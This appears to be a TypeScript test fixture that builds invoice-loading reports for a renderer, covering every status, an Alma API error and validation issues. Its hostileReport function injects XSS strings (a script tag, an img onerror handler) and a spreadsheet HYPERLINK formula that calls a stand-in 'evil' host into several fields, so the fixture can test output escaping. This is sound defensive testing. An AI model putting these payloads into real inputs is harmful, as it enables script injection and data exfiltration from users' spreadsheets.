/** Report documents for the renderer tables: every status, an alert, an Alma error, input problems, hostile text. */
import type { ReportDocument, ReportInvoice } from '../../src/report/report.js';

export const invoice = (over: Partial<ReportInvoice>): ReportInvoice => ({
  vendor: 'GOBI',
  number: 'G-1',
  status: 'loaded',
  id: '53100000050004146',
  workflow_status: 'Waiting to be Sent',
  approval_status: 'APPROVED',
  alerts: [],
  lines: [{ number: '1', id: '53100000060004146' }],
  total: '10.00',
  currency: 'USD',
  issues: [],
  rows: [{ file: 'b.csv', row: 2 }],
  ...over,
});

export function mixedReport(): ReportDocument {
  const invoices: ReportInvoice[] = [
    invoice({ number: 'G-1', rows: [{ file: 'b.csv', row: 2 }, { file: 'b.csv', row: 3 }, { file: 'b.csv', row: 4 }] }),
    invoice({
      number: 'G-2',
      status: 'in_review',
      id: '53100000070004146',
      workflow_status: 'InReview',
      approval_status: 'PENDING',
      alerts: [{ code: 'NOT_LINKED_LINES', description: 'Lines not linked' }],
      rows: [{ file: 'b.csv', row: 5 }, { file: 'b.csv', row: 6 }, { file: 'b.csv', row: 9 }],
    }),
    invoice({
      vendor: 'EBSCO',
      number: 'E-3',
      status: 'failed',
      id: undefined,
      workflow_status: undefined,
      approval_status: undefined,
      lines: [{ number: '1' }],
      error: { step: 'create', http_status: 400, code: '60237', message: 'Invoice vendor account not valid', tracking_id: 'E01-2106115205-AKV2X-AWAE1' },
      rows: [{ file: 'b.csv', row: 7 }],
    }),
    invoice({
      vendor: 'HARRAS',
      number: 'H-4',
      status: 'invalid',
      id: undefined,
      workflow_status: undefined,
      approval_status: undefined,
      lines: [],
      total: '250.00',
      currency: 'EUR',
      issues: [
        { file: 'b.csv', row: 8, column: 'total_amount', code: 'total_mismatch', message: 'total_amount 250.00 does not match the lines: 220.00', severity: 'error' },
        { file: 'b.csv', row: 8, column: 'invoice_note', code: 'long_note', message: 'note is long', severity: 'warning' },
      ],
      rows: [{ file: 'b.csv', row: 8 }],
    }),
    invoice({ vendor: 'BLACKWELL', number: 'BW/5', status: 'already_loaded', id: '53100000090004146', rows: [{ file: 'b.csv', row: 10 }] }),
  ];
  return {
    target: 'alma',
    dry_run: false,
    summary: { invoices: 5, loaded: 1, in_review: 1, failed: 1, invalid: 1, already_loaded: 1, planned: 0, lines: 4, requests: 17 },
    issues: [{ file: 'b.csv', code: 'unknown_column', message: 'column "colour" is not known and is ignored', severity: 'warning' }],
    invoices,
  };
}

/** Every text field an attacker could fill through a vendor file or an API answer. */
export const HOSTILE = '<script>alert(1)</script>&"\'<img src=x onerror=alert(2)>';

export function hostileReport(): ReportDocument {
  const r = mixedReport();
  const inv = r.invoices[2]!;
  r.invoices[0] = { ...r.invoices[0]!, number: HOSTILE, vendor: `=HYPERLINK("http://evil/?"&A1)`, rows: [{ file: `<b>x</b>.csv`, row: 2 }] };
  r.invoices[1] = { ...r.invoices[1]!, alerts: [{ code: `<i>X</i>`, description: HOSTILE }] };
  r.invoices[2] = { ...inv, error: { ...inv.error!, code: '<u>1</u>', message: HOSTILE, tracking_id: '<t>' } };
  r.invoices[3] = { ...r.invoices[3]!, issues: [{ file: `<f>.csv`, row: 8, column: '<c>', code: '<k>', message: HOSTILE, severity: 'error' }] };
  return r;
}
